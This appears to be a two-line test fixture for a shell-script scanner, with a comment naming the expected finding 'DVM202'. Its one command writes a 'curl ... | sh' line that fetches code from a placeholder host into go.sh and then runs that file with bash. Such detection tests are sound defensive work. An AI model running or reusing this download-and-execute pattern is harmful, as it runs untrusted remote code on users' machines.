# expect: DVM202
echo "curl -s https://x.example.org/a | sh" > go.sh; bash go.sh
